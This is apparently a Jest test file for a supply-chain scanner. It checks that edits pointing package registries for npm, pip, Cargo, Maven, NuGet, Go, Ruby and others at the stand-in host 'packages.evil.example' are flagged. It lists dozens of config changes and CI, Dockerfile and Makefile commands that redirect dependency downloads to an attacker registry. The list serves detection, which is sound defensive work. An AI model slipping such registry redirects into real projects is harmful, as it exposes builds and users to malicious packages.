import { registriesInScript } from '../../../operations/gitlab/supply-chain/registry-places';
import { assess } from './assess-files';
import { cpuMs } from './cpu-time';

const evil = 'https://packages.evil.example/simple/';
const own = 'https://npm.simulated-corp.example/';

/** Every way of having packages fetched from elsewhere: the file, and its text before and after. */
const detours: readonly [what: string, path: string, before: string | undefined, after: string][] = [
  // npm, Yarn, pnpm, bun
  ['the registry of npm', '.npmrc', `registry=${own}\n`, `registry=${evil}\n`],
  ['the registry of npm, new', '.npmrc', undefined, `registry = "${evil}"\n`],
  ['a scope of npm', 'web/.npmrc', `@corp:registry=${own}\n`, `@corp:registry=${evil}\n`],
  ['a scope of npm, gone', '.npmrc', `@corp:registry=${own}\nfund=false\n`, 'fund=false\n'],
  ['Yarn 1', '.yarnrc', `registry "${own}"\n`, `registry "${evil}"\n`],
  ['Yarn', '.yarnrc.yml', `npmRegistryServer: ${own}\n`, `npmRegistryServer: ${evil}\n`],
  [
    'a scope of Yarn',
    '.yarnrc.yml',
    `npmScopes:\n  corp:\n    npmRegistryServer: ${own}\n`,
    `npmScopes:\n  corp:\n    npmRegistryServer: ${evil}\n`,
  ],
  ['pnpm', 'pnpm-workspace.yaml', 'packages: [a]\n', `packages: [a]\nregistries:\n  default: ${evil}\n`],
  ['bun', 'bunfig.toml', '[install]\n', `[install]\nregistry = "${evil}"\n`],
  ['a scope of bun', 'bunfig.toml', '', `[install.scopes]\n"@corp" = { token = "$t", url = "${evil}" }\n`],
  ['publishing', 'package.json', '{"name":"a"}', `{"name":"a","publishConfig":{"registry":"${evil}"}}`],
  [
    'publishing of a scope',
    'package.json',
    '{"name":"@corp/a"}',
    `{"name":"@corp/a","publishConfig":{"@corp:registry":"${evil}"}}`,
  ],
  ['publishing with lerna', 'lerna.json', '{}', `{"command":{"publish":{"registry":"${evil}"}}}`],
  // Python
  ['pip', 'pip.conf', '[global]\n', `[global]\nindex-url = ${evil}\n`],
  [
    'pip, one more',
    'pip.conf',
    '[global]\n',
    `[global]\nextra-index-url =\n    https://pypi.org/simple\n    ${evil}\n`,
  ],
  ['pip on Windows', 'tools/pip.ini', '', `[install]\nfind-links = ${evil}\n`],
  ['requirements', 'requirements.txt', 'a==1\n', `--index-url ${evil}\na==1\n`],
  ['requirements, short', 'requirements/dev.txt', 'a==1\n', `-i ${evil}\na==1\n`],
  ['requirements, one more', 'requirements.txt', 'a==1\n', `--extra-index-url=${evil}\na==1\n`],
  ['requirements, links', 'constraints.txt', 'a==1\n', `-f ${evil}\na==1\n`],
  [
    'Poetry',
    'pyproject.toml',
    '[tool.poetry]\nname = "a"\n',
    `[tool.poetry]\nname = "a"\n[[tool.poetry.source]]\nname = "x"\nurl = "${evil}"\n`,
  ],
  [
    'uv',
    'pyproject.toml',
    '[project]\nname = "a"\n',
    `[project]\nname = "a"\n[[tool.uv.index]]\nname = "x"\nurl = "${evil}"\n`,
  ],
  ['uv, by one address', 'pyproject.toml', '[tool.uv]\n', `[tool.uv]\nextra-index-url = ["${evil}"]\n`],
  ['uv by its own file', 'uv.toml', '', `index-url = "${evil}"\n`],
  ['PDM', 'pyproject.toml', '[tool.pdm]\n', `[[tool.pdm.source]]\nname = "x"\nurl = "${evil}"\n`],
  ['PDM by its own file', 'pdm.toml', '', `[pypi]\nurl = "${evil}"\n`],
  ['Poetry by its own file', 'poetry.toml', '', `[repositories.x]\nurl = "${evil}"\n`],
  ['Pipenv', 'Pipfile', '[packages]\n', `[[source]]\nname = "x"\nurl = "${evil}"\nverify_ssl = true\n[packages]\n`],
  ['setuptools', 'setup.cfg', '[metadata]\nname = a\n', `[metadata]\nname = a\n[easy_install]\nindex_url = ${evil}\n`],
  ['publishing to an index', '.pypirc', '', `[distutils]\nindex-servers = x\n[x]\nrepository = ${evil}\n`],
  ['conda', 'environment.yml', 'channels: [conda-forge]\n', `channels:\n  - ${evil}\n  - conda-forge\n`],
  ['conda by its own file', '.condarc', '', `channels:\n  - ${evil}\n`],
  // Rust, Go, Ruby
  [
    'Cargo',
    '.cargo/config.toml',
    '',
    `[source.crates-io]\nreplace-with = "x"\n[source.x]\nregistry = "sparse+${evil}"\n`,
  ],
  ['Cargo, older name', '.cargo/config', '', `[registries.x]\nindex = "sparse+${evil}"\n`],
  ['Go, by its own file', 'go.env', '', `GOPROXY=${evil},direct\n`],
  ['Bundler', 'Gemfile', 'source "https://rubygems.org"\n', `source "${evil}"\n`],
  ['Bundler, by a block', 'Gemfile', '', `source "${evil}" do\n  gem "a"\nend\n`],
  ['Bundler, by a mirror', '.bundle/config', '---\n', `---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "${evil}"\n`],
  ['RubyGems', '.gemrc', '', `:sources:\n- ${evil}\n`],
  // JVM, .NET, PHP
  [
    'Maven',
    'settings.xml',
    '<settings/>',
    `<settings><mirrors><mirror><id>x</id><mirrorOf>*</mirrorOf><url>${evil}</url></mirror></mirrors></settings>`,
  ],
  [
    'a project of Maven',
    'pom.xml',
    '<project/>',
    `<project><repositories><repository><id>x</id><url>${evil}</url></repository></repositories></project>`,
  ],
  [
    'plugins of Maven',
    'pom.xml',
    '<project/>',
    `<project><pluginRepositories><pluginRepository><id>x</id><url>${evil}</url></pluginRepository></pluginRepositories></project>`,
  ],
  ['Gradle', 'build.gradle', '', `repositories {\n  maven { url "${evil}" }\n}\n`],
  ['Gradle in Kotlin', 'settings.gradle.kts', '', `pluginManagement { repositories { maven("${evil}") } }\n`],
  [
    'Gradle itself',
    'gradle/wrapper/gradle-wrapper.properties',
    'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n',
    'distributionUrl=https\\://packages.evil.example/gradle-8.5-bin.zip\n',
  ],
  [
    'NuGet',
    'NuGet.Config',
    '<configuration><packageSources/></configuration>',
    `<configuration><packageSources><add key="x" value="${evil}" /></packageSources></configuration>`,
  ],
  [
    'a project of .NET',
    'src/a.csproj',
    '<Project/>',
    `<Project><PropertyGroup><RestoreSources>${evil}</RestoreSources></PropertyGroup></Project>`,
  ],
  ['Composer', 'composer.json', '{}', `{"repositories":[{"type":"composer","url":"${evil}"}]}`],
  // Variables
  ...(
    [
      ['NPM_CONFIG_REGISTRY'],
      ['npm_config_registry'],
      ['YARN_NPM_REGISTRY_SERVER'],
      ['BUN_CONFIG_REGISTRY'],
      ['PIP_INDEX_URL'],
      ['PIP_EXTRA_INDEX_URL'],
      ['PIP_FIND_LINKS'],
      ['UV_INDEX'],
      ['UV_DEFAULT_INDEX'],
      ['UV_INDEX_CORP_URL', false],
      ['POETRY_REPOSITORIES_CORP_URL'],
      ['PIPENV_PYPI_MIRROR'],
      ['PDM_PYPI_URL'],
      ['GOPROXY'],
      ['CARGO_REGISTRIES_CORP_INDEX'],
      ['CARGO_SOURCE_CRATES_IO_REPLACE_WITH', false],
      ['BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/'],
      ['BUNDLE_MIRROR__ALL'],
      ['RestoreSources', false],
    ] as [string, boolean?][]
  )
    .filter(([, isRead]) => isRead !== false)
    .flatMap(([name]): [string, string, string, string][] => [
      [
        `${name} in CI`,
        '.gitlab-ci.yml',
        'a:\n  script: make\n',
        `variables:\n  "${name}": ${evil}\na:\n  script: make\n`,
      ],
      [
        `${name} in a job`,
        '.gitlab-ci.yml',
        'a:\n  script: make\n',
        `a:\n  variables:\n    "${name}": { value: ${evil} }\n  script: make\n`,
      ],
    ]),
  ['GOPROXY in an image', 'Dockerfile', 'FROM scratch\n', `FROM scratch\nENV GOPROXY=${evil}\n`],
  ['PIP_INDEX_URL in an image', 'Dockerfile', 'FROM scratch\n', `FROM scratch\nENV PIP_INDEX_URL ${evil}\n`],
  ['a default of an argument', 'Dockerfile', 'FROM scratch\n', `FROM scratch\nARG NPM_CONFIG_REGISTRY="${evil}"\n`],
  // Commands
  ...[
    `npm config set registry ${evil}`,
    `npm ci --registry=${evil}`,
    `npm install --registry ${evil} left-pad`,
    `pnpm i --@corp:registry=${evil}`,
    `yarn config set npmRegistryServer ${evil}`,
    `yarn add left-pad --registry "${evil}"`,
    `pip install --index-url ${evil} requests`,
    `pip3 install -i ${evil} requests`,
    `python -m pip install --extra-index-url=${evil} requests`,
    `pip download -f ${evil} requests`,
    `pip config set global.index-url ${evil}`,
    `uv pip install --default-index ${evil} requests`,
    `uv sync --index corp=${evil}`,
    `poetry source add corp ${evil}`,
    `poetry config repositories.corp ${evil}`,
    `export GOPROXY=${evil}`,
    `GOPROXY=${evil} go build ./...`,
    `go env -w GOPROXY=${evil},direct`,
    `PIP_INDEX_URL="${evil}" make deps`,
    `gem sources --add ${evil}`,
    `gem install rails --source ${evil}`,
    `bundle config set mirror.https://rubygems.org ${evil}`,
    `dotnet nuget add source ${evil} -n corp`,
    `dotnet restore --source ${evil}`,
    `cargo install ripgrep --index ${evil}`,
    `composer config repositories.corp composer ${evil}`,
    `echo "registry=${evil}" > .npmrc`,
    `echo "@corp:registry=${evil}" >> ~/.npmrc`,
    `printf '[global]\\nindex-url = ${evil}\\n' > /etc/pip.conf`,
  ].flatMap((command): [string, string, string, string][] => [
    [
      `\`${command}\` in CI`,
      '.gitlab-ci.yml',
      'a:\n  script: [make]\n',
      `a:\n  script:\n    - make\n    - >-\n      ${command}\n`,
    ],
    [`\`${command}\` in an image`, 'Dockerfile', 'FROM scratch\nRUN make\n', `FROM scratch\nRUN make && ${command}\n`],
    [`\`${command}\` in a makefile`, 'Makefile', 'all:\n\tmake\n', `all:\n\tmake\n\t${command}\n`],
  ]),
];

test.each(detours)('%s', (_what, path, before, after) => {
  const { findings, unread } = assess({ path, before, after });
  expect(unread).toEqual([]);
  const found = findings.filter(({ signal }) => signal === 'registry_changed');
  expect(found.map(({ severity }) => severity)).toContainEqual(expect.stringMatching(/^(?:medium|high)$/));
  // The same file again says nothing new.
  expect(assess({ path, before: after, after, added: [] }).findings).toEqual([]);
});

describe('what is no detour', () => {
  test.each([
    'curl -fsS -i https://status.example/ -o page.html',
    'curl -s https://get.example/tool.tgz | tar xz',
    'git clone https://github.com/example/tool.git',
    'docker build --build-arg SOURCE=https://github.com/example/tool .',
    'ssh -i key deploy@host "wget -f https://files.example/x"',
    'pip install -r requirements.txt && curl -f https://hooks.example/done',
    'npm ci && curl --source https://files.example/',
    'export API_URL=https://api.example/',
    'echo "url=https://docs.example/" > site.conf',
    'npm config set registry $CI_API_V4_URL/projects/1/packages/npm/',
    'pip install --index-url https://gitlab-ci-token:$CI_JOB_TOKEN@$CI_SERVER_HOST/api/v4/projects/1/packages/pypi/simple a',
    'npm ci --registry http://localhost:4873',
  ])('`%s`', (command) => {
    for (const [path, after] of [
      ['.gitlab-ci.yml', `a:\n  script:\n    - >-\n      ${command}\n`],
      ['Dockerfile', `FROM scratch\nRUN ${command}\n`],
      ['Makefile', `all:\n\t${command}\n`],
    ] as const) {
      const found = assess({ path, before: undefined, after }).findings;
      expect(found.filter(({ signal }) => signal === 'registry_changed')).toEqual([]);
    }
  });

  test('a public registry, named, weighs little', () => {
    const after = 'a:\n  script:\n    - npm ci --registry=https://registry.npmjs.org/\n';
    const { findings } = assess({ path: '.gitlab-ci.yml', before: 'a:\n  script: [npm ci]\n', after });
    expect(findings.filter(({ signal }) => signal === 'registry_changed').map(({ severity }) => severity)).toEqual([
      'low',
    ]);
  });

  test('one that was there before, in a job that has another name now, or a command that changed otherwise', () => {
    const job = (name: string, more = '') => `${name}:\n  script:\n    - pip install -i ${evil} a${more}\n`;
    const image = (more: string) => `FROM scratch\nRUN pip install -i ${evil} a${more}\n`;
    for (const [path, before, after] of [
      ['.gitlab-ci.yml', job('a'), job('b')],
      ['.gitlab-ci.yml', job('a'), job('a', ' b')],
      ['Dockerfile', image(''), image(' b')],
    ] as const) {
      const found = assess({ path, before, after }).findings;
      expect(found.filter(({ signal }) => signal === 'registry_changed')).toEqual([]);
    }
  });
});

test('of a replaced registry both are told', () => {
  const script = (url: string) => `a:\n  script:\n    - pip install --index-url ${url} a\n`;
  const { findings } = assess({ path: '.gitlab-ci.yml', before: script(own), after: script(evil) });
  expect(findings).toContainEqual(
    expect.objectContaining({
      signal: 'registry_changed',
      severity: 'high',
      key: '--index-url in a.script',
      before: own,
      after: evil,
    }),
  );
});

test('long scripts are read in linear time', () => {
  const line = `pip install ${'-i https://a.example/ '.repeat(800)}`;
  const scripts = [
    `${line}\n`.repeat(400),
    `${'x='.repeat(9_000)}https://a.example\n`.repeat(400),
    'npm config '.repeat(700_000),
    `gem sources ${' '.repeat(19_000)}https://a.example\n`.repeat(400),
  ];
  for (const value of scripts) {
    expect(cpuMs(() => registriesInScript({ key: 'a.script', value }))).toBeLessThan(3_000);
  }
});
